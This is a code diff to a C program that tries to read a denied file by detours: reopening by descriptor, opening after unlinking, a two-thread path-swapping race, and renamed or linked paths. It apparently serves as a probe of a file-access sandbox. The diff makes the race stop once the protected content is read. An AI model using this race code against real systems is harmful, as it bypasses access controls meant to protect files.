@@ -1,6 +1,6 @@
 // Prints a denied file by a detour. Arguments: HOW FILE DIRECTORY, where DIRECTORY may be written.
 // path: opened for nothing, then opened again by descriptor. removed: the same, after the name is gone. race: two threads, one changes the
-// path that the other opens. rename, link, above: under another name, its own or that of the directory that holds it.
+// path that the other opens, until the denied file was read. rename, link, above: under another name, its own or that of the directory that holds it.
 #include "attack.h"
 #include <pthread.h>
 #include <stdatomic.h>
@@ -12,12 +12,16 @@ static volatile char name[512];
 static const char *denied, *harmless;
 static atomic_bool done;
 
-static void print_open(int fd) {
+static const char known[] = "nothing\n";
+
+/** Prints what it holds. @return whether that is more than is known of the harmless file */
+static int print_open(int fd) {
   char text[4096];
   const ssize_t length = read(fd, text, sizeof text);
   if (length > 0) fwrite(text, 1, (size_t)length, stdout);
   fflush(stdout);
   close(fd);
+  return length > 0 && ((size_t)length != strlen(known) || memcmp(text, known, strlen(known)) != 0);
 }
 
 static int by_descriptor(int removes) {
@@ -43,13 +47,14 @@ static int race(const char *directory) {
   char other[512];
   snprintf(other, sizeof other, "%s/harmless", directory);
   harmless = other;
-  write_proof(other, "nothing\n");
+  write_proof(other, known);
   strcpy((char *)name, other);
   pthread_t thread;
   pthread_create(&thread, NULL, flip, NULL);
-  for (const time_t end = time(NULL) + SECONDS; time(NULL) < end;) {
+  int gained = 0;
+  for (const time_t end = time(NULL) + SECONDS; time(NULL) < end && !gained;) {
     const int fd = open((const char *)name, O_RDONLY);
-    if (fd >= 0) print_open(fd);
+    if (fd >= 0) gained = print_open(fd);
   }
   done = 1;
   pthread_join(thread, NULL);
